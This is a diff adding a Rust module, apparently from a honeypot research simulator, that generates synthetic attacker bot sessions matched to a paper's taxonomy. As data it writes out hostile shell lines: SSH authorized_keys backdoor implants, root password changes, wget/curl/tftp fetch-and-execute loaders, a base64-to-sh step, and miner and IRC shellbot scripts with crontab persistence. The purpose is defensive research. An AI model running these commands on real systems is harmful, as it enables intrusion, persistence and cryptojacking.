@@ -1,0 +1,1105 @@
+//! Bot archetypes: what one session of each attacker looks like.
+//!
+//! Every archetype corresponds to a behavioural category of the paper
+//! (Table 1 / Figs 2–4) and emits command lines that its Table 1 regex
+//! matches — the classifier test in `honeylab-core` pins this mapping.
+//! Where the paper redacts a slur in figure labels, we keep the published
+//! Table 1 indicator string only as a generated *filename* (these are
+//! indicators of compromise from the published artefact, not prose).
+
+use crate::storage::StorageEcosystem;
+use abusedb::MalwareFamily;
+use honeypot::Protocol;
+use hutil::base64;
+use hutil::Date;
+use netsim::Ipv4Addr;
+use rand::rngs::StdRng;
+use rand::Rng;
+
+/// How a loader bot moves its payload (drives Fig. 4's exists/missing split).
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum TransferMethod {
+    /// Emulated download — file captured if the dropper is up.
+    Wget,
+    /// Emulated download via curl.
+    Curl,
+    /// Emulated download via tftp.
+    Tftp,
+    /// Emulated download via busybox ftpget.
+    Ftpget,
+    /// File assumed present (pushed by scp/rsync, which Cowrie cannot
+    /// emulate) — always "file missing".
+    ScpAssumed,
+}
+
+/// Everything the attacker decides for one session.
+#[derive(Debug, Clone)]
+pub struct BotSessionContent {
+    /// Credential attempts in order.
+    pub logins: Vec<(String, String)>,
+    /// Command lines (empty = pure intrusion).
+    pub commands: Vec<String>,
+    /// Client SSH identification string.
+    pub client_version: Option<String>,
+    /// Whether the client idles out instead of closing.
+    pub idle_out: bool,
+    /// SSH or Telnet.
+    pub protocol: Protocol,
+}
+
+impl BotSessionContent {
+    fn ssh(logins: Vec<(String, String)>, commands: Vec<String>, version: &str) -> Self {
+        Self {
+            logins,
+            commands,
+            client_version: Some(version.to_string()),
+            idle_out: false,
+            protocol: Protocol::Ssh,
+        }
+    }
+}
+
+/// Per-session context handed to an archetype.
+pub struct BotCtx<'a> {
+    /// Deterministic randomness for this session.
+    pub rng: &'a mut StdRng,
+    /// Calendar day of the session.
+    pub date: Date,
+    /// The attacking client's address.
+    pub client_ip: Ipv4Addr,
+    /// Whether this client belongs to the small self-hosting subset
+    /// (hosting-AS machines that serve their own payloads): when true the
+    /// "storage location" is the client itself, producing the paper's 20 %
+    /// same-IP downloads without inflating the storage-IP population.
+    pub self_host: bool,
+    /// The malware-hosting ecosystem.
+    pub storage: &'a StorageEcosystem,
+}
+
+impl BotCtx<'_> {
+    /// A dropper URI for `family`; self-hosting clients serve from their
+    /// own address, everyone else from the storage ecosystem.
+    pub fn dropper(&mut self, family: MalwareFamily) -> String {
+        let p = if self.self_host { 1.0 } else { 0.0 };
+        self.storage.pick_uri(family, self.date, self.client_ip, p, self.rng)
+    }
+
+    /// Like [`BotCtx::dropper`], but models configuration rot: from 2023
+    /// onward most picks ignore host liveness and therefore fail
+    /// (paper §5: the "file exists" collapse).
+    pub fn dropper_timed(&mut self, family: MalwareFamily) -> String {
+        if self.date >= Date::new(2023, 1, 1) && !self.self_host && self.rng.random::<f64>() < 0.8
+        {
+            self.storage.pick_stale_uri(family, self.date, self.rng)
+        } else {
+            self.dropper(family)
+        }
+    }
+
+    fn token(&mut self, n: usize) -> String {
+        const CS: &[u8] = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
+        (0..n).map(|_| CS[self.rng.random_range(0..CS.len())] as char).collect()
+    }
+
+    fn alpha_token(&mut self, n: usize) -> String {
+        const CS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ";
+        (0..n).map(|_| CS[self.rng.random_range(0..CS.len())] as char).collect()
+    }
+
+    /// A brute-force ladder ending in the given fixed password (used by
+    /// campaigns tied to one credential, e.g. the TV-box bots).
+    pub fn ladder(&mut self, pw: &str) -> Vec<(String, String)> {
+        crate::credentials::bruteforce_ladder(self.rng, pw)
+    }
+
+    /// A brute-force ladder ending in a drawn attack password — what most
+    /// command-executing bots use (keeps Fig. 10's top-5 calibrated).
+    fn ladder_any(&mut self) -> Vec<(String, String)> {
+        let pw = crate::credentials::draw_attack_password(self.rng);
+        crate::credentials::bruteforce_ladder(self.rng, &pw)
+    }
+}
+
+/// The 8 command-and-control IPs referenced by the mdrfckr cleanup script
+/// (paper §9 enumerates their open ports).
+pub fn mdrfckr_c2_ips() -> [Ipv4Addr; 8] {
+    [
+        Ipv4Addr::from_octets(198, 18, 7, 1),
+        Ipv4Addr::from_octets(198, 18, 7, 2),
+        Ipv4Addr::from_octets(198, 18, 7, 3),
+        Ipv4Addr::from_octets(198, 18, 7, 4),
+        Ipv4Addr::from_octets(198, 18, 8, 1),
+        Ipv4Addr::from_octets(198, 18, 8, 2),
+        Ipv4Addr::from_octets(198, 18, 8, 3),
+        Ipv4Addr::from_octets(198, 18, 8, 4),
+    ]
+}
+
+/// The constant public-key line the mdrfckr actor plants; its hash is what
+/// abuse databases label "CoinMiner"/"Malicious" (§9).
+pub const MDRFCKR_KEY_LINE: &str = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQCl0kIN33IJISIufmqpqg54D6s4J0L7XV2kep0rNzgY1S1IdE8HDef7z1ipBVuGTygGsq+x4yVnxveGshVP48YmicQHJMCIljmn6Po0RMC48qihm/9ytoEYtkKkeiTqhvO4AkFcSvxJ25GZHZaiqu1fm+Tu+b8rpZDhIO/21Fpg8wOYEkgaBsGP3dGdBX4bepkLAVDZIJePs9RlEm3Lzc1SS30WAL4qII2H735WJQ5NLKys1rX4FjPV68hrp9Esv2L+tTH8c6fFf sT9Lbr7yIuPdIkJLhnGTJR0BFK9rYGXSPcZ+oSvXF5GrK2XKwpIUSrCcZBLPU6qt6RPmp11t1DPH mdrfckr";
+
+/// The cryptominer / shellbot / cleanup scripts uploaded base64-encoded
+/// during dip windows (§9). Decoded by the case-study analysis.
+pub fn mdrfckr_b64_scripts() -> [String; 3] {
+    let c2 = mdrfckr_c2_ips();
+    let cleanup_targets: Vec<String> = c2.iter().map(|ip| format!("pkill -f {ip}")).collect();
+    [
+        // Cryptominer setup.
+        "#!/bin/sh\ncd /tmp || cd /var/tmp\nwget -q http://dl.pool.example/xmr.tar.gz\ntar xf xmr.tar.gz && ./config.json --donate 0\ncrontab -l | { cat; echo \"@reboot /tmp/.X25-unix/start\"; } | crontab -".to_string(),
+        // Shellbot (IRC C&C).
+        "#!/usr/bin/perl\n# shellbot\nuse IO::Socket;\nmy $irc = IO::Socket::INET->new(PeerAddr=>'irc.example:6667');\nprint $irc \"NICK dred\\n\";".to_string(),
+        // Cleanup: kills processes tied to the 8 C2 IPs.
+        format!("#!/bin/sh\n# cleanup\n{}\nrm -rf /tmp/.mined", cleanup_targets.join("\n")),
+    ]
+}
+
+/// All bot behaviours. Variants mirror the paper's category names.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Archetype {
+    // ---- scanning / scouting background -------------------------------
+    /// TCP handshake only, no credentials (taxonomy: scanning).
+    Scanner,
+    /// Failed logins only (taxonomy: scouting).
+    GenericScout,
+    /// Successful login, no commands (taxonomy: intrusion).
+    GenericIntruder,
+    /// Telnet background noise (scanning/scouting on port 23).
+    TelnetNoise,
+    // ---- non-state-changing command bots (Fig. 2) ---------------------
+    /// `echo -e "\x6F\x6B"` — the dominant scout (>80 %).
+    EchoOk,
+    /// `echo ok` plain-text variant.
+    EchoOkTxt,
+    /// `echo "SSH check …"`.
+    EchoSshCheck,
+    /// `echo <uuid>` consistency probe.
+    EchoOsCheck,
+    /// `uname -a`.
+    UnameA,
+    /// `uname -s -v -n -r -m`.
+    UnameSvnrm,
+    /// `uname -s -v -n -r` + cpuinfo model name.
+    UnameSvnr,
+    /// `uname -a` + `nproc`.
+    UnameANproc,
+    /// `uname -s -n -r -i` + `nproc`.
+    UnameSnriNproc,
+    /// `/bin/busybox cat /proc/self/exe || cat /proc/self/exe`.
+    BboxScoutCat,
+    /// AK47 hex marker + writable-dir probe.
+    Ak47Scout,
+    /// `$SHELL` + `dd bs=22` fingerprint.
+    ShellFp,
+    /// JuiceSSH client probes.
+    JuiceSsh,
+    /// clamav presence check.
+    Clamav,
+    /// `export VEI` probe.
+    ExportVei,
+    /// cloud print probe.
+    CloudPrint,
+    /// CPU(s) + bin.x86_64 recon.
+    Binx86,
+    // ---- state-changing, no-exec bots (Fig. 3a) -----------------------
+    /// The §9 case-study actor (initial behaviour).
+    MdrfckrInitial,
+    /// The post-2022-12-08 variant (no passwd change; disables WorkMiner).
+    MdrfckrVariant,
+    /// Base64 script uploads during dip windows.
+    MdrfckrB64,
+    /// The Jan–Apr 2024 curl proxy abuse (Appendix C).
+    CurlMaxred,
+    /// `echo root:<15+>|chpasswd` lockout.
+    Root17CharPwd,
+    /// 12-char chpasswd + awk capability scout.
+    Root12CharCapscout,
+    /// 12-char chpasswd + `echo 321` marker.
+    Root12CharEcho321,
+    /// `openssl passwd -1 <8>` hash priming.
+    OpensslPasswd,
+    /// lenni0451 marker drop.
+    Lenni0451,
+    /// stx + LC_ALL miner stage.
+    StxMiner,
+    /// perl dred miner stage.
+    PerlDredMiner,
+    // ---- login-only credential campaigns (Fig. 10/13) -----------------
+    /// `3245gs5662d34` — login, zero commands, hang up.
+    Cred3245,
+    /// TV-box Mirai using `dreambox` default.
+    TvBoxDreambox,
+    /// TV-box Mirai using `vertex25ektks123` default.
+    TvBoxVertex,
+    /// Cowrie fingerprinting via `phil`/`richard` (Fig. 11).
+    PhilScanner,
+    // ---- file-exec bots (Fig. 3b/4) ------------------------------------
+    /// bb_5_diff_char_v2: busybox 5-char probe + tftp;wget loader.
+    Bbox5Char,
+    /// bbox_unlabelled: mixed transfer methods; dies mid-2022.
+    BboxUnlabelled,
+    /// busybox probe + random-name exec.
+    BboxRandExec,
+    /// loader.wget staging.
+    BboxLoaderWget,
+    /// `echo -ne "\x45\x4c\x46…"` ELF-by-echo dropper.
+    BboxEchoElf,
+    /// Generic loader with a tool set (curl/echo/ftp/wget) and optional
+    /// exec — covers every `gen_*` category.
+    GenLoader {
+        /// Uses curl.
+        curl: bool,
+        /// Uses an echo hex-dump stage.
+        echo: bool,
+        /// Uses ftp (ftpget/tftp).
+        ftp: bool,
+        /// Uses wget.
+        wget: bool,
+        /// Executes the dropped file.
+        exec: bool,
+    },
+    /// rapperbot SSH-key implant + loader.
+    RapperBot,
+    /// update.sh loader.
+    UpdateAttack,
+    /// sora Mirai strain.
+    SoraAttack,
+    /// ohshit strain.
+    OhshitAttack,
+    /// onions1337 strain.
+    OnionsAttack,
+    /// Heisenberg strain.
+    HeisenAttack,
+    /// Zeus strain.
+    ZeusAttack,
+    /// The antisemitic-filename strain (label redacted as in the paper).
+    FrSlurAttack,
+    /// Password123 + daemon account stage.
+    Passwd123Daemon,
+    /// Obfuscated rm/cd carpet pattern.
+    RmObfPattern1,
+    /// wget -4 / dget -4 pair.
+    WgetDget,
+}
+
+impl Archetype {
+    /// The category label this archetype should classify into (where it is
+    /// a Table 1 bot), or a taxonomy label for background traffic.
+    pub fn name(self) -> &'static str {
+        match self {
+            Archetype::Scanner => "scanner",
+            Archetype::GenericScout => "generic_scout",
+            Archetype::GenericIntruder => "generic_intruder",
+            Archetype::TelnetNoise => "telnet_noise",
+            Archetype::EchoOk => "echo_OK",
+            Archetype::EchoOkTxt => "echo_ok_txt",
+            Archetype::EchoSshCheck => "echo_ssh_check",
+            Archetype::EchoOsCheck => "echo_os_check",
+            Archetype::UnameA => "uname_a",
+            Archetype::UnameSvnrm => "uname_svnrm",
+            Archetype::UnameSvnr => "uname_svnr",
+            Archetype::UnameANproc => "uname_a_nproc",
+            Archetype::UnameSnriNproc => "uname_snri_nproc",
+            Archetype::BboxScoutCat => "bbox_scout_cat",
+            Archetype::Ak47Scout => "ak47_scout",
+            Archetype::ShellFp => "shell_fp",
+            Archetype::JuiceSsh => "juicessh",
+            Archetype::Clamav => "clamav",
+            Archetype::ExportVei => "export_vei",
+            Archetype::CloudPrint => "cloud_print",
+            Archetype::Binx86 => "binx86",
+            Archetype::MdrfckrInitial => "mdrfckr",
+            Archetype::MdrfckrVariant => "mdrfckr",
+            Archetype::MdrfckrB64 => "mdrfckr",
+            Archetype::CurlMaxred => "curl_maxred",
+            Archetype::Root17CharPwd => "root_17_char_pwd",
+            Archetype::Root12CharCapscout => "root_12_char_capscout",
+            Archetype::Root12CharEcho321 => "root_12_char_echo321",
+            Archetype::OpensslPasswd => "openssl_passwd",
+            Archetype::Lenni0451 => "lenni_0451",
+            Archetype::StxMiner => "stx_miner",
+            Archetype::PerlDredMiner => "perl_dred_miner",
+            Archetype::Cred3245 => "login_3245gs5662d34",
+            Archetype::TvBoxDreambox => "tvbox_dreambox",
+            Archetype::TvBoxVertex => "tvbox_vertex",
+            Archetype::PhilScanner => "phil_scanner",
+            Archetype::Bbox5Char => "bbox_5_char_v2",
+            Archetype::BboxUnlabelled => "bbox_unlabelled",
+            Archetype::BboxRandExec => "bbox_rand_exec",
+            Archetype::BboxLoaderWget => "bbox_loaderwget",
+            Archetype::BboxEchoElf => "bbox_echo_elf",
+            Archetype::GenLoader { curl, echo, ftp, wget, .. } => {
+                gen_loader_name(curl, echo, ftp, wget)
+            }
+            Archetype::RapperBot => "rapperbot",
+            Archetype::UpdateAttack => "update_attack",
+            Archetype::SoraAttack => "sora_attack",
+            Archetype::OhshitAttack => "ohshit_attack",
+            Archetype::OnionsAttack => "onions_attack",
+            Archetype::HeisenAttack => "heisen_attack",
+            Archetype::ZeusAttack => "zeus_attack",
+            Archetype::FrSlurAttack => "fr***_attack",
+            Archetype::Passwd123Daemon => "passwd123_daemon",
+            Archetype::RmObfPattern1 => "rm_obf_pattern_1",
+            Archetype::WgetDget => "wget_dget",
+        }
+    }
+
+    /// Generates one session's content.
+    pub fn session(self, ctx: &mut BotCtx<'_>) -> BotSessionContent {
+        use Archetype::*;
+        match self {
+            Scanner => BotSessionContent {
+                logins: vec![],
+                commands: vec![],
+                client_version: None,
+                idle_out: false,
+                protocol: Protocol::Ssh,
+            },
+            GenericScout => {
+                // Dictionary attempts against non-root users and root:root
+                // — nothing the policy accepts.
+                let n = ctx.rng.random_range(1..=5);
+                let users = ["admin", "user", "test", "ubuntu", "pi", "oracle", "root"];
+                let logins = (0..n)
+                    .map(|_| {
+                        let u = users[ctx.rng.random_range(0..users.len())];
+                        let p = if u == "root" {
+                            "root".to_string()
+                        } else {
+                            crate::credentials::draw_generic(ctx.rng).to_string()
+                        };
+                        (u.to_string(), p)
+                    })
+                    .collect();
+                BotSessionContent::ssh(logins, vec![], "SSH-2.0-libssh2_1.8.0")
+            }
+            GenericIntruder => {
+                let logins = ctx.ladder_any();
+                BotSessionContent::ssh(logins, vec![], "SSH-2.0-Go")
+            }
+            TelnetNoise => {
+                let scouting = ctx.rng.random::<f64>() < 0.8;
+                let logins = if scouting {
+                    vec![("admin".to_string(), "admin".to_string())]
+                } else {
+                    vec![]
+                };
+                BotSessionContent {
+                    logins,
+                    commands: vec![],
+                    client_version: None,
+                    idle_out: false,
+                    protocol: Protocol::Telnet,
+                }
+            }
+            EchoOk => BotSessionContent::ssh(
+                ctx.ladder_any(),
+                vec![r#"echo -e "\x6F\x6B""#.to_string()],
+                "SSH-2.0-Go",
+            ),
+            EchoOkTxt => BotSessionContent::ssh(
+                ctx.ladder_any(),
+                vec!["echo ok".to_string()],
+                "SSH-2.0-paramiko_2.4.2",
+            ),
+            EchoSshCheck => BotSessionContent::ssh(
+                ctx.ladder_any(),
+                vec![r#"echo "SSH check alive""#.to_string()],
+                "SSH-2.0-Go",
+            ),
+            EchoOsCheck => {
+                let uuid = format!(
+                    "{}-{}-{}-{}-{}",
+                    hex_token(ctx, 8),
+                    hex_token(ctx, 4),
+                    hex_token(ctx, 4),
+                    hex_token(ctx, 4),
+                    hex_token(ctx, 12)
+                );
+                BotSessionContent::ssh(
+                    ctx.ladder_any(),
+                    vec![format!("echo {uuid}")],
+                    "SSH-2.0-Go",
+                )
+            }
+            UnameA => BotSessionContent::ssh(
+                ctx.ladder_any(),
+                vec!["uname -a".to_string()],
+                "SSH-2.0-libssh_0.9.6",
+            ),
+            UnameSvnrm => BotSessionContent::ssh(
+                ctx.ladder_any(),
+                vec!["uname -s -v -n -r -m".to_string()],
+                "SSH-2.0-Go",
+            ),
+            UnameSvnr => BotSessionContent::ssh(
+                ctx.ladder_any(),
+                vec![r#"uname -s -v -n -r; cat /proc/cpuinfo | grep "model name""#.to_string()],
+                "SSH-2.0-Go",
+            ),
+            UnameANproc => BotSessionContent::ssh(
+                ctx.ladder_any(),
+                vec!["uname -a; nproc".to_string()],
+                "SSH-2.0-Go",
+            ),
+            UnameSnriNproc => BotSessionContent::ssh(
+                ctx.ladder_any(),
+                vec!["uname -s -n -r -i; nproc".to_string()],
+                "SSH-2.0-OpenSSH_7.4p1",
+            ),
+            BboxScoutCat => BotSessionContent::ssh(
+                ctx.ladder_any(),
+                vec![
+                    "/bin/busybox cat /proc/self/exe || cat /proc/self/exe".to_string(),
+                ],
+                "SSH-2.0-Go",
+            ),
+            Ak47Scout => {
+                let dir = ["/tmp", "/var/tmp", "/dev/shm"][ctx.rng.random_range(0..3)];
+                BotSessionContent::ssh(
+                    ctx.ladder_any(),
+                    vec![format!(
+                        r#"cd {dir}; echo -e "\x41\x4b\x34\x37"; echo "writable""#
+                    )],
+                    "SSH-2.0-Go",
+                )
+            }
+            ShellFp => BotSessionContent::ssh(
+                ctx.ladder_any(),
+                vec!["echo $SHELL; dd if=/proc/self/exe bs=22 count=1".to_string()],
+                "SSH-2.0-Go",
+            ),
+            JuiceSsh => BotSessionContent::ssh(
+                ctx.ladder_any(),
+                vec!["ls /data/data/com.sonelli.juicessh 2>/dev/null; uname -a".to_string()],
+                "SSH-2.0-JuiceSSH",
+            ),
+            Clamav => BotSessionContent::ssh(
+                ctx.ladder_any(),
+                vec!["which clamav; ps aux | grep clamav".to_string()],
+                "SSH-2.0-Go",
+            ),
+            ExportVei => BotSessionContent::ssh(
+                ctx.ladder_any(),
+                vec!["export VEI=1; uname -a".to_string()],
+                "SSH-2.0-Go",
+            ),
+            CloudPrint => BotSessionContent::ssh(
+                ctx.ladder_any(),
+                vec!["echo cloud print ready".to_string()],
+                "SSH-2.0-Go",
+            ),
+            Binx86 => BotSessionContent::ssh(
+                ctx.ladder_any(),
+                vec![r#"lscpu | grep "CPU(s):"; ls bin.x86_64"#.to_string()],
+                "SSH-2.0-Go",
+            ),
+            MdrfckrInitial => {
+                let pw15 = ctx.token(16);
+                BotSessionContent::ssh(
+                    ctx.ladder_any(),
+                    vec![
+                        format!(
+                            r#"cd ~; chattr -ia .ssh; lockr -ia .ssh; cd ~ && rm -rf .ssh && mkdir .ssh && echo "{MDRFCKR_KEY_LINE}">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~"#
+                        ),
+                        format!("echo root:{pw15}|chpasswd|bash"),
+                        r#"cat /proc/cpuinfo | grep name | wc -l; free -m | grep Mem"#
+                            .to_string(),
+                    ],
+                    "SSH-2.0-Go",
+                )
+            }
+            MdrfckrVariant => BotSessionContent::ssh(
+                ctx.ladder_any(),
+                vec![
+                    format!(
+                        r#"cd ~; chattr -ia .ssh; lockr -ia .ssh; cd ~ && rm -rf .ssh && mkdir .ssh && echo "{MDRFCKR_KEY_LINE}">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~"#
+                    ),
+                    "rm -rf /tmp/auth.sh /tmp/secure.sh; pkill -f auth.sh; pkill -f secure.sh"
+                        .to_string(),
+                    "echo > /etc/hosts.deny".to_string(),
+                ],
+                "SSH-2.0-Go",
+            ),
+            MdrfckrB64 => {
+                let scripts = mdrfckr_b64_scripts();
+                let script = &scripts[ctx.rng.random_range(0..scripts.len())];
+                let b64 = base64::encode(script.as_bytes());
+                BotSessionContent::ssh(
+                    ctx.ladder_any(),
+                    vec![
+                        format!(
+                            r#"cd ~; chattr -ia .ssh; lockr -ia .ssh; cd ~ && rm -rf .ssh && mkdir .ssh && echo "{MDRFCKR_KEY_LINE}">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~"#
+                        ),
+                        format!("echo {b64}|base64 -d|sh"),
+                    ],
+                    "SSH-2.0-Go",
+                )
+            }
+            CurlMaxred => {
+                let n = 90 + ctx.rng.random_range(0..20);
+                let commands = (0..n)
+                    .map(|_| {
+                        let target = ctx.rng.random_range(1..=120);
+                        let method = if ctx.rng.random::<f64>() < 0.5 { "GET" } else { "POST" };
+                        let cookie = ctx.token(24);
+                        format!(
+                            "curl https://203.0.113.{target}/ -s -X {method} --max-redirs 5 --compressed --cookie '{cookie}' --raw --referer 'https://203.0.113.{target}/login'"
+                        )
+                    })
+                    .collect();
+                BotSessionContent::ssh(ctx.ladder_any(), commands, "SSH-2.0-Go")
+            }
+            Root17CharPwd => {
+                let pw = ctx.token(16);
+                BotSessionContent::ssh(
+                    ctx.ladder_any(),
+                    vec![format!("echo root:{pw}|chpasswd")],
+                    "SSH-2.0-Go",
+                )
+            }
+            Root12CharCapscout => {
+                let pw = ctx.token(12);
+                BotSessionContent::ssh(
+                    ctx.ladder_any(),
+                    vec![format!(
+                        r#"echo root:{pw}|chpasswd; cat /proc/cpuinfo | awk '{{print $4,$5,$6,$7,$8,$9;}}'"#
+                    )],
+                    "SSH-2.0-Go",
+                )
+            }
+            Root12CharEcho321 => {
+                let pw = ctx.token(12);
+                BotSessionContent::ssh(
+                    ctx.ladder_any(),
+                    vec![format!("echo root:{pw}|chpasswd; echo 321")],
+                    "SSH-2.0-Go",
+                )
+            }
+            OpensslPasswd => {
+                let seed = ctx.token(8);
+                BotSessionContent::ssh(
+                    ctx.ladder_any(),
+                    vec![format!("openssl passwd -1 {seed} > /tmp/.hash")],
+                    "SSH-2.0-Go",
+                )
+            }
+            Lenni0451 => BotSessionContent::ssh(
+                ctx.ladder_any(),
+                vec!["echo lenni0451 > /tmp/.lenni; uname -a".to_string()],
+                "SSH-2.0-Go",
+            ),
+            StxMiner => {
+                let uri = ctx.dropper(MalwareFamily::CoinMiner);
+                BotSessionContent::ssh(
+                    ctx.ladder_any(),
+                    vec![format!("export LC_ALL=C; cd /tmp; wget {uri} -O stx")],
+                    "SSH-2.0-Go",
+                )
+            }
+            PerlDredMiner => {
+                let uri = ctx.dropper(MalwareFamily::CoinMiner);
+                BotSessionContent::ssh(
+                    ctx.ladder_any(),
+                    vec![format!("cd /var/tmp; wget {uri} -O dred.pl; which perl")],
+                    "SSH-2.0-Go",
+                )
+            }
+            Cred3245 => {
+                let mut c = BotSessionContent::ssh(
+                    vec![("root".to_string(), crate::credentials::CRED_3245.to_string())],
+                    vec![],
+                    "SSH-2.0-Go",
+                );
+                c.idle_out = false;
+                c
+            }
+            TvBoxDreambox | TvBoxVertex => {
+                let pw = if self == TvBoxDreambox {
+                    crate::credentials::CRED_DREAMBOX
+                } else {
+                    crate::credentials::CRED_VERTEX
+                };
+                // TV-box Mirai infrastructure is mostly dead by the time we
+                // see it: abuse DBs found only "a small number of hashes".
+                let uri = if ctx.rng.random::<f64>() < 0.85 {
+                    ctx.storage.pick_stale_uri(MalwareFamily::Mirai, ctx.date, ctx.rng)
+                } else {
+                    ctx.dropper(MalwareFamily::Mirai)
+                };
+                let file = uri.rsplit('/').next().unwrap_or("m.sh").to_string();
+                BotSessionContent::ssh(
+                    vec![("root".to_string(), pw.to_string())],
+                    vec![format!("cd /tmp; wget {uri}; sh {file}")],
+                    "SSH-2.0-Go",
+                )
+            }
+            PhilScanner => {
+                let use_phil = ctx.rng.random::<f64>() < 0.6;
+                let user = if use_phil {
+                    crate::credentials::USER_PHIL
+                } else {
+                    crate::credentials::USER_RICHARD
+                };
+                BotSessionContent::ssh(
+                    vec![(user.to_string(), "0".to_string())],
+                    vec![],
+                    "SSH-2.0-Go",
+                )
+            }
+            Bbox5Char => {
+                // Early period downloads for real; from 2023 the payload is
+                // assumed to be pushed out-of-band (rsync/scp) — the Fig. 4
+                // "file exists" collapse.
+                let probe = ctx.alpha_token(5);
+                let early = ctx.date < Date::new(2023, 1, 1);
+                let fetch_real = if early {
+                    ctx.rng.random::<f64>() < 0.75
+                } else {
+                    ctx.rng.random::<f64>() < 0.04
+                };
+                let cmd = if fetch_real {
+                    let uri = ctx.dropper(MalwareFamily::Mirai);
+                    let file = uri.rsplit('/').next().unwrap_or("bins.sh").to_string();
+                    format!(
+                        "cd /tmp || cd /var/run || cd /mnt || cd /root; tftp; wget {uri}; chmod 777 {file}; sh {file}; /bin/busybox {probe}"
+                    )
+                } else {
+                    let file = format!(".{}", ctx.token(6));
+                    format!(
+                        "cd /tmp || cd /var/run || cd /mnt || cd /root; tftp; wget; chmod 777 {file}; sh {file}; /bin/busybox {probe}"
+                    )
+                };
+                BotSessionContent::ssh(ctx.ladder_any(), vec![cmd], "SSH-2.0-Go")
+            }
+            BboxUnlabelled => {
+                let probe = ctx.alpha_token(5);
+                let method = match ctx.rng.random_range(0..4) {
+                    0 => TransferMethod::Wget,
+                    1 => TransferMethod::Tftp,
+                    2 => TransferMethod::Ftpget,
+                    _ => TransferMethod::ScpAssumed,
+                };
+                let cmd = match method {
+                    TransferMethod::Wget | TransferMethod::Curl => {
+                        let uri = ctx.dropper(MalwareFamily::Gafgyt);
+                        let file = uri.rsplit('/').next().unwrap_or("g.sh").to_string();
+                        format!("/bin/busybox wget {uri}; sh {file}; /bin/busybox {probe}")
+                    }
+                    TransferMethod::Tftp => {
+                        let uri = ctx.dropper(MalwareFamily::Gafgyt);
+                        let host = uri.split('/').nth(2).unwrap_or("0.0.0.0").to_string();
+                        let file = uri.rsplit('/').next().unwrap_or("g.sh").to_string();
+                        format!(
+                            "/bin/busybox tftp -g -r {file} {host}; sh {file}; /bin/busybox {probe}"
+                        )
+                    }
+                    TransferMethod::Ftpget => {
+                        let uri = ctx.dropper(MalwareFamily::Gafgyt);
+                        let host = uri.split('/').nth(2).unwrap_or("0.0.0.0").to_string();
+                        let file = uri.rsplit('/').next().unwrap_or("g.sh").to_string();
+                        format!(
+                            "/bin/busybox ftpget {host} {file} {file}; sh {file}; /bin/busybox {probe}"
+                        )
+                    }
+                    TransferMethod::ScpAssumed => {
+                        let file = format!(".{}", ctx.token(5));
+                        format!("/bin/busybox {probe}; sh {file}")
+                    }
+                };
+                BotSessionContent::ssh(ctx.ladder_any(), vec![cmd], "SSH-2.0-Go")
+            }
+            BboxRandExec => {
+                let probe = ctx.alpha_token(7);
+                let file = format!("./{}", ctx.token(8));
+                BotSessionContent::ssh(
+                    ctx.ladder_any(),
+                    vec![format!("/bin/busybox {probe}; {file}")],
+                    "SSH-2.0-Go",
+                )
+            }
+            BboxLoaderWget => {
+                let uri = ctx.dropper(MalwareFamily::Mirai);
+                let host = uri.split('/').nth(2).unwrap_or("0.0.0.0").to_string();
+                BotSessionContent::ssh(
+                    ctx.ladder_any(),
+                    vec![format!(
+                        "cd /tmp; wget http://{host}/loader.wget -O .l; sh .l"
+                    )],
+                    "SSH-2.0-Go",
+                )
+            }
+            BboxEchoElf => BotSessionContent::ssh(
+                ctx.ladder_any(),
+                vec![
+                    r#"cd /tmp; echo -ne "\x7f\x45\x4c\x46\x01\x01\x01" > .e; /bin/busybox cat .e; chmod +x .e; ./.e"#
+                        .to_string(),
+                ],
+                "SSH-2.0-Go",
+            ),
+            GenLoader { curl, echo, ftp, wget, exec } => {
+                let family = [
+                    MalwareFamily::Mirai,
+                    MalwareFamily::Gafgyt,
+                    MalwareFamily::Dofloo,
+                    MalwareFamily::CoinMiner,
+                    MalwareFamily::XorDdos,
+                    MalwareFamily::Malicious,
+                ][ctx.rng.random_range(0..6)];
+                let uri = ctx.dropper_timed(family);
+                let host = uri.split('/').nth(2).unwrap_or("0.0.0.0").to_string();
+                let file = uri.rsplit('/').next().unwrap_or("x.sh").to_string();
+                let mut parts: Vec<String> = vec!["cd /tmp".to_string()];
+                if wget {
+                    parts.push(format!("wget {uri}"));
+                }
+                if curl {
+                    if wget {
+                        parts.push(format!("curl -O {uri}"));
+                    } else {
+                        parts.push(format!("curl -o {file} {uri}"));
+                    }
+                }
+                if ftp {
+                    parts.push(format!("ftpget {host} {file} {file}"));
+                }
+                if echo {
+                    parts.push(format!("echo -n '#loader' >> {file}.hdr"));
+                }
+                if exec {
+                    parts.push(format!("chmod +x {file}; sh {file}"));
+                    parts.push(format!("rm -rf {file}"));
+                }
+                BotSessionContent::ssh(
+                    ctx.ladder_any(),
+                    vec![parts.join("; ")],
+                    "SSH-2.0-Go",
+                )
+            }
+            RapperBot => {
+                let keyid = ctx.token(24);
+                let uri = ctx.dropper(MalwareFamily::Mirai);
+                let file = uri.rsplit('/').next().unwrap_or("r.sh").to_string();
+                BotSessionContent::ssh(
+                    ctx.ladder_any(),
+                    vec![
+                        format!(
+                            r#"cd ~/.ssh || mkdir ~/.ssh; echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABA{keyid} helloworld" > ~/.ssh/authorized_keys"#
+                        ),
+                        format!("wget {uri}; sh {file}"),
+                    ],
+                    "SSH-2.0-HELLOWORLD",
+                )
+            }
+            UpdateAttack => {
+                let uri = ctx.dropper_timed(MalwareFamily::Malicious);
+                let host = uri.split('/').nth(2).unwrap_or("0.0.0.0").to_string();
+                BotSessionContent::ssh(
+                    ctx.ladder_any(),
+                    vec![format!(
+                        "cd /tmp; wget http://{host}/update.sh; chmod +x update.sh; sh update.sh"
+                    )],
+                    "SSH-2.0-Go",
+                )
+            }
+            SoraAttack | OhshitAttack | OnionsAttack | HeisenAttack | ZeusAttack
+            | FrSlurAttack => {
+                let (token, family) = match self {
+                    SoraAttack => ("sora", MalwareFamily::Mirai),
+                    OhshitAttack => ("ohshit", MalwareFamily::Gafgyt),
+                    OnionsAttack => ("onions1337", MalwareFamily::Gafgyt),
